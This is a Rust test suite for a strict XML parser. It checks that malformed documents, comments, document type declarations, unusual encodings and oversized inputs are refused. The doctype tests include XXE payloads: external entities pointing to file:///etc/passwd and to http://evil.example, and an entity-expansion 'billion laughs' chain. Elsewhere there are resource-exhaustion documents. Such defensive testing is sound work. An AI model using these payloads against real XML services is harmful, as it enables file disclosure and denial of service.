use std::time::{Duration, Instant};

use super::*;

fn fault(xml: &str) -> DoorFault {
    open(xml.as_bytes(), &Limits::MESSAGE).unwrap_err()
}

fn metadata_fault(xml: &str) -> DoorFault {
    open(xml.as_bytes(), &Limits::METADATA).unwrap_err()
}

fn many(count: usize, what: impl Fn(usize) -> String) -> String {
    (0..count).map(what).collect::<Vec<_>>().concat()
}

fn is_open(xml: &str) -> bool {
    open(xml.as_bytes(), &Limits::MESSAGE).is_ok()
}

/// Documents with one fault each, and why XML 1.0 or Namespaces in XML 1.0
/// refuses them. Each has been taken for XML by some parser.
const MALFORMED: &[(&str, &str)] = &[
    ("", "no root element"),
    ("   ", "no root element, only white space"),
    ("<a>", "unclosed root"),
    ("<a></b>", "end tag of another name"),
    ("<a></A>", "names differ in case"),
    (
        "<p:a xmlns:p='urn:p' xmlns:q='urn:p'></q:a>",
        "end tag with another prefix",
    ),
    ("<a><b></a></b>", "crossed elements"),
    ("<a/><b/>", "two roots"),
    ("<a/>x", "text after the root"),
    ("x<a/>", "text before the root"),
    ("<a/>&amp;", "reference after the root"),
    ("<![CDATA[]]><a/>", "CDATA before the root"),
    ("<a b='1' b='2'/>", "attribute twice"),
    (
        "<a xmlns:p='urn:1' xmlns:q='urn:1' p:b='' q:b=''/>",
        "attribute twice by namespace",
    ),
    (
        "<a xmlns='urn:1' xmlns='urn:1'/>",
        "default namespace declared twice",
    ),
    (
        "<a xmlns='urn:1' xmlns='urn:2'/>",
        "default namespace declared twice",
    ),
    (
        "<a xmlns:p='urn:1' xmlns:p='urn:2'/>",
        "prefix declared twice",
    ),
    ("<a b=1/>", "unquoted value"),
    ("<a b/>", "attribute without value"),
    ("<a b='1'c='2'/>", "no space between attributes"),
    ("<a b='<'/>", "less-than in a value"),
    ("<a b='&'/>", "bare ampersand in a value"),
    ("<a>&</a>", "bare ampersand in text"),
    ("<a>&amp</a>", "reference without semicolon"),
    ("<a>&nbsp;</a>", "undeclared entity in text"),
    ("<a b='&nbsp;'/>", "undeclared entity in a value"),
    ("<a>&#0;</a>", "reference to U+0000"),
    ("<a>&#x1F;</a>", "reference to a control character"),
    ("<a>&#xD800;</a>", "reference to a surrogate"),
    ("<a b='&#xDFFF;'/>", "reference to a surrogate in a value"),
    ("<a>&#x110000;</a>", "reference past U+10FFFF"),
    ("<a b='&#99999999999;'/>", "reference past any integer"),
    ("<a>&#xFFFE;</a>", "reference to U+FFFE"),
    ("<a>&#;</a>", "reference to no number"),
    ("<a>&#X41;</a>", "reference with capital X"),
    ("<a>&#+65;</a>", "reference with a sign"),
    ("<a>]]></a>", "CDATA end in text"),
    ("<a>\u{1}</a>", "control character"),
    ("<a>\u{FFFF}</a>", "U+FFFF"),
    ("<a b='\u{8}'/>", "control character in a value"),
    ("<a\u{0}/>", "U+0000"),
    ("<1a/>", "name that starts with a digit"),
    ("<-a/>", "name that starts with a hyphen"),
    ("< a/>", "space before the name"),
    ("<a / >", "space inside the empty tag's end"),
    ("<a></ a>", "space before the end tag's name"),
    ("<a></a b='c'>", "attribute in an end tag"),
    ("<a:b:c xmlns:a='urn:a'/>", "two colons"),
    ("<:a/>", "empty prefix"),
    ("<a :b=''/>", "empty attribute prefix"),
    ("<a xmlns:=''/>", "empty prefix declared"),
    ("<:/>", "only a colon"),
    ("<a:/>", "empty local name"),
    (
        "<a xmlns:p='urn:p' p:1='x'/>",
        "local name that starts with a digit",
    ),
    ("<p:a/>", "prefix never declared"),
    ("<a p:b=''/>", "attribute prefix never declared"),
    ("<a xmlns:p=''/>", "prefix bound to nothing"),
    ("<a xmlns:xml='urn:x'/>", "xml bound anew"),
    (
        "<a xmlns:x='http://www.w3.org/XML/1998/namespace'/>",
        "another prefix for xml",
    ),
    (
        "<a xmlns='http://www.w3.org/XML/1998/namespace'/>",
        "xml as default namespace",
    ),
    ("<a xmlns:xmlns='urn:x'/>", "xmlns declared"),
    (
        "<a xmlns:x='http://www.w3.org/2000/xmlns/'/>",
        "the namespace of xmlns bound",
    ),
    ("<xmlns:a/>", "xmlns as element prefix"),
    ("<a><![CDATA[</a>", "unclosed CDATA"),
    ("<a><![cdata[]]></a>", "CDATA in small letters"),
    ("<a/><!", "unfinished markup"),
    ("<a/><?xml version='1.0'?>", "declaration after the root"),
    (" <?xml version='1.0'?><a/>", "declaration after a space"),
    (
        "<?xml version='1.0'?><?xml version='1.0'?><a/>",
        "two declarations",
    ),
    ("<?xml?><a/>", "declaration without version"),
    ("<?xml version='1.0' ><a/>", "declaration without end"),
    (
        "<?xml encoding='UTF-8' version='1.0'?><a/>",
        "declaration out of order",
    ),
    (
        "<?xml version='1.0'encoding='UTF-8'?><a/>",
        "declaration without space",
    ),
    (
        "<?xml version='1.0' standalone='maybe'?><a/>",
        "standalone neither yes nor no",
    ),
    (
        "<?xml version='1.0' foo='bar'?><a/>",
        "unknown word in the declaration",
    ),
    ("<?xml version='2.0'?><a/>", "another version"),
    ("<?xml versionx='1.0'?><a/>", "another word for version"),
    ("<?XML version='1.0'?><a/>", "reserved target in capitals"),
];

#[test]
fn malformed_documents_are_refused_as_message_and_as_metadata() {
    for (xml, why) in MALFORMED {
        assert!(
            open(xml.as_bytes(), &Limits::MESSAGE).is_err(),
            "{why}: {xml}"
        );
        assert!(
            open(xml.as_bytes(), &Limits::METADATA).is_err(),
            "{why}: {xml}"
        );
    }
    for (xml, why) in [
        ("<a><!-- -- --></a>", "two hyphens in a comment"),
        ("<a><!-- ---></a>", "comment that ends in three hyphens"),
        ("<a><!-- </a>", "unclosed comment"),
        ("<a><?xml?></a>", "reserved target"),
        ("<a><? p?></a>", "space before the target"),
        ("<a><?p </a>", "unclosed instruction"),
    ] {
        assert!(
            open(xml.as_bytes(), &Limits::METADATA).is_err(),
            "{why}: {xml}"
        );
    }
}

#[test]
fn well_formed_documents_are_let_in() {
    for xml in [
        "<a/>",
        "\u{FEFF}<a/>",
        "<?xml version=\"1.0\"?>\n<a/>\n",
        "<?xml version = '1.0' encoding='utf-8' standalone='yes' ?><a/>",
        "<a b='&#9;&#x10FFFF;&lt;'>&#xD;\r\n&amp;\n<![CDATA[<b>]]></a>",
        "<p:a xmlns:p='urn:p' xmlns:xml='http://www.w3.org/XML/1998/namespace' xml:lang='fr'/>",
        "<a xmlns='urn:a'><b xmlns=''/></a >",
    ] {
        assert!(is_open(xml), "{xml}");
    }
}

#[test]
fn r02_one_tree_holds_what_was_sent() {
    let document = open(b"<a>1&#xD;\r\n2\r3&#13;\n</a>", &Limits::MESSAGE).unwrap();
    assert_eq!(document.root().text().unwrap(), "1\r\n2\n3\r\n");
}

#[test]
fn r02_a_bare_carriage_return_beside_a_reference_is_refused() {
    for xml in [
        "<a>1\r&amp;</a>",
        "<a>&amp;\r</a>",
        "<a>&#xD;\r</a>",
        "<a>\r&#xA;</a>",
    ] {
        assert_eq!(
            metadata_fault(xml),
            DoorFault::LoneCarriageReturn,
            "{xml:?}"
        );
    }
    let document = open(b"<a b='\r&#xA;'>1\r</a>", &Limits::MESSAGE).unwrap();
    assert_eq!(document.root().text().unwrap(), "1\n");
    assert_eq!(document.root().attribute("b"), Some(" \n"));
}

#[test]
fn r03_a_message_with_a_comment_or_instruction_anywhere_is_refused() {
    for xml in [
        "<!--x--><a/>",
        "<a><!----></a>",
        "<a>b<!--x-->c</a>",
        "<a/><!--x-->",
    ] {
        assert_eq!(fault(xml), DoorFault::Comment, "{xml}");
        assert!(open(xml.as_bytes(), &Limits::METADATA).is_ok(), "{xml}");
    }
    for xml in [
        "<?x?><a/>",
        "<a><?x y?></a>",
        "<a/><?x?>",
        "<?xml-stylesheet href='x'?><a/>",
    ] {
        assert_eq!(fault(xml), DoorFault::ProcessingInstruction, "{xml}");
        assert!(open(xml.as_bytes(), &Limits::METADATA).is_ok(), "{xml}");
    }
    assert!(is_open("<a><![CDATA[<!--x--><?x?>]]></a>"));
}

#[test]
fn r04_a_document_type_declaration_is_refused_in_every_form() {
    for doctype in [
        "<!DOCTYPE a>",
        "<!DOCTYPE a []>",
        "<!DOCTYPE a SYSTEM \"file:///etc/passwd\">",
        "<!DOCTYPE a PUBLIC \"p\" \"http://evil.example/a.dtd\">",
        "<!DOCTYPE a [<!ENTITY e \"x\">]>",
        "<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
        "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://evil.example/p\"> %p;]>",
        "<!DOCTYPE a [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;\"><!ENTITY c \"&b;&b;\">]>",
        "<!DOCTYPE a [<!ATTLIST a ID ID #IMPLIED>]>",
        "<!doctype a>",
        "<!--x--><!DOCTYPE a>",
    ] {
        for body in ["<a/>", "<a>&e;</a>"] {
            let xml = format!("{doctype}{body}");
            assert_eq!(metadata_fault(&xml), DoorFault::Doctype, "{xml}");
            assert!(!is_open(&xml), "{xml}");
            let xml = format!("\u{FEFF}<?xml version='1.0' encoding='UTF-8'?>\n{doctype}\n{body}");
            assert_eq!(metadata_fault(&xml), DoorFault::Doctype, "{xml}");
        }
    }
    for late in ["<a><!DOCTYPE a></a>", "<a/><!DOCTYPE a>"] {
        assert_eq!(fault(late), DoorFault::Doctype, "{late}");
    }
}

#[test]
fn r04_another_encoding_hides_nothing() {
    let xml = "<!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><a>&e;</a>";
    let little: Vec<u8> = xml.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let big: Vec<u8> = xml.encode_utf16().flat_map(u16::to_be_bytes).collect();
    for bytes in [
        little.clone(),
        big.clone(),
        [b"\xFF\xFE".as_slice(), &little].concat(),
        [b"\xFE\xFF".as_slice(), &big].concat(),
        [b"\xFF\xFE\0\0".as_slice(), &little].concat(),
        b"<a>\xE9</a>".to_vec(),
        b"<a>\xC0\xBC</a>".to_vec(),
        b"\xEF\xBB\xBF\xEF\xBB\xBF<a/>".to_vec(),
    ] {
        let fault = open(&bytes, &Limits::METADATA).unwrap_err();
        assert_eq!(fault, DoorFault::Encoding, "{bytes:?}");
    }
    for encoding in ["UTF-7", "UTF-16", "ISO-8859-1", "x-user-defined", ""] {
        let xml = format!("<?xml version='1.0' encoding='{encoding}'?><a>+ADw-b/+AD4-</a>");
        assert_eq!(fault(&xml), DoorFault::Encoding, "{encoding}");
    }
    assert!(matches!(
        fault("+ADwAIQ-DOCTYPE a+AD4-<a/>"),
        DoorFault::NotWellFormed { .. }
    ));
}

#[test]
fn r06_each_bound_is_held_exactly() {
    let limits = Limits {
        bytes: 2_000,
        depth: 3,
        elements: 5,
        attributes: 3,
        attributes_in_document: 5,
        namespace_declarations: 2,
        namespaces_in_scope: 3,
        name_bytes: 8,
        text_bytes: 20,
        only_elements_and_text: false,
    };
    let check = |inside: &str, outside: &str, bound| {
        assert!(
            open(inside.as_bytes(), &limits).is_ok(),
            "{bound:?}: {inside}"
        );
        let fault = open(outside.as_bytes(), &limits).unwrap_err();
        assert_eq!(fault, DoorFault::TooLarge(bound), "{outside}");
    };
    let padded = |size: usize| format!("<a/>{}", " ".repeat(size - 4));
    assert!(
        open(
            padded(2_000).as_bytes(),
            &Limits {
                text_bytes: 2_000,
                ..limits
            }
        )
        .is_ok()
    );
    let fault = open(padded(2_001).as_bytes(), &limits).unwrap_err();
    assert_eq!(fault, DoorFault::TooLarge(Bound::Bytes));
    check(
        "<a><b><c/></b></a>",
        "<a><b><c><d/></c></b></a>",
        Bound::Depth,
    );
    check(
        "<a><b/><b/><b/><b/></a>",
        "<a><b/><b/><b/><b/><b/></a>",
        Bound::Elements,
    );
    check(
        "<a b='' c='' d=''/>",
        "<a b='' c='' d='' e=''/>",
        Bound::Attributes,
    );
    check(
        "<a b='' c='' d=''><a b='' c=''/></a>",
        "<a b='' c='' d=''><a b='' c='' d=''/></a>",
        Bound::AttributesInDocument,
    );
    check(
        "<a xmlns='urn:a' xmlns:b='urn:b'/>",
        "<a xmlns='urn:a' xmlns:b='urn:b' xmlns:c='urn:c'/>",
        Bound::NamespaceDeclarations,
    );
    check(
        "<a xmlns='urn:a' xmlns:b='urn:b'><c xmlns=''/><c xmlns=''/></a>",
        "<a xmlns='urn:a' xmlns:b='urn:b'><c xmlns:c='urn:c' xmlns:d='urn:d'/></a>",
        Bound::NamespacesInScope,
    );
    check("<aaaaaaaa/>", "<aaaaaaaaa/>", Bound::NameBytes);
    check("<a aaaaaaaa=''/>", "<a aaaaaaaaa=''/>", Bound::NameBytes);
    check(
        "<a b='01234567890123456789'/>",
        "<a b='012345678901234567890'/>",
        Bound::TextBytes,
    );
    check(
        "<a>01234567890123456789</a>",
        "<a>012345678901234567890</a>",
        Bound::TextBytes,
    );
    check(
        "<a>0123456789<b/>0123456789</a>",
        "<a>0123456<!--c-->789<![CDATA[01234]]>1&#65;</a>",
        Bound::TextBytes,
    );
}

#[test]
fn r06_the_bounds_of_messages_are_those_required() {
    let Limits {
        bytes,
        depth,
        elements,
        attributes,
        attributes_in_document: _,
        namespace_declarations,
        namespaces_in_scope: _,
        name_bytes,
        text_bytes,
        only_elements_and_text,
    } = Limits::MESSAGE;
    assert_eq!((bytes, depth, elements), (262_144, 32, 2_000));
    assert_eq!((attributes, namespace_declarations), (64, 16));
    assert_eq!((name_bytes, text_bytes), (256, 65_536));
    assert!(only_elements_and_text);
    assert_eq!(Limits::METADATA.bytes, 4_194_304);
}

#[test]
fn r06_exhausting_documents_are_refused_at_once() {
    let attributes = format!("<a{}/>", many(100_000, |n| format!(" a{n}=''")));
    let same = format!("<a{}/>", " a=''".repeat(100_000));
    let namespaces = format!("<a{}/>", many(100_000, |n| format!(" xmlns:a{n}='urn:a'")));
    let depth = format!("{}{}", "<a>".repeat(100_000), "</a>".repeat(100_000));
    let siblings = format!("<a>{}</a>", "<b/>".repeat(1_000_000));
    let unclosed = "<a ".repeat(100_000);
    for xml in [attributes, same, namespaces, depth, siblings, unclosed] {
        for limits in [
            Limits::MESSAGE,
            Limits {
                bytes: usize::MAX,
                ..Limits::METADATA
            },
        ] {
            let began = Instant::now();
            assert!(open(xml.as_bytes(), &limits).is_err());
            assert!(
                began.elapsed() < Duration::from_secs(1),
                "a debug build needs far less"
            );
        }
    }
}

#[test]
fn r06_the_dearest_document_within_the_bounds_is_cheap() {
    // Every element declares one more namespace under as many as may be in
    // scope, or has as many attributes as it may: both cost their square.
    let around = many(31, |n| format!("<a xmlns:p{n}='urn:{n}'>"));
    let leaves = "<b xmlns:q='urn:q'/>".repeat(1_900);
    let namespaces = format!("{around}{leaves}{}", "</a>".repeat(31));
    let attributes = format!("<b{}/>", many(64, |n| format!(" a{n}=''"))).repeat(62);
    let attributes = format!("<a>{attributes}</a>");
    let began = Instant::now();
    assert!(is_open(&namespaces) && is_open(&attributes));
    assert!(
        began.elapsed() < Duration::from_secs(2),
        "a debug build needs far less"
    );
}

#[test]
fn a_fault_says_where_and_echoes_nothing() {
    assert_eq!(
        fault("<a>\n <b é=''>é&secret;</b></a>"),
        DoorFault::NotWellFormed {
            line: 2,
            column: 11
        }
    );
    assert!(!fault("<a>&secret;</a>").to_string().contains("secret"));
}
